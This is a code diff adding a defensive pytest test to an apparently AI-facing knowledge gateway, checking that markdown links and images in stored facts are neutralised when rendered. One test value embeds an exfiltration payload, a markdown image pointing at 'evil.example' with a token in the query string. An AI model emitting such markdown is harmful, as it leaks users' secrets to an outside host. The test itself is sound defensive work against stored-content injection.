@@ -9,7 +9,8 @@ from typing import Any
 import pytest
 
 from vera.gateway import graph_handlers
-from vera.gateway.render import UNTRUSTED
+from vera.gateway.profiles import tools_for_profile
+from vera.gateway.render import UNTRUSTED, render
 
 FACT = {
     "fact_key": "k1",
@@ -49,3 +50,13 @@ CASES: dict[str, tuple[Any, dict[str, Any]]] = {
 def test_stored_text_is_labelled_untrusted(name: str) -> None:
     renderer, data = CASES[name]
     assert UNTRUSTED in renderer(data).splitlines()
+
+
+def test_markdown_links_and_images_in_stored_text_are_broken_in_every_rendering() -> None:
+    [spec] = [s for s in tools_for_profile("advanced") if s.name == "knowledge_get_conflicts"]
+    leaky = {**FACT, "object": "postgres ![x](https://evil.example/p?d=token) [docs](https://e)"}
+    _, data = CASES["conflicts"]
+    data = {**data, "conflicts": [{**data["conflicts"][0], "facts": [leaky]}]}
+    text = render(spec, data)
+    assert "postgres" in text
+    assert "](" not in text
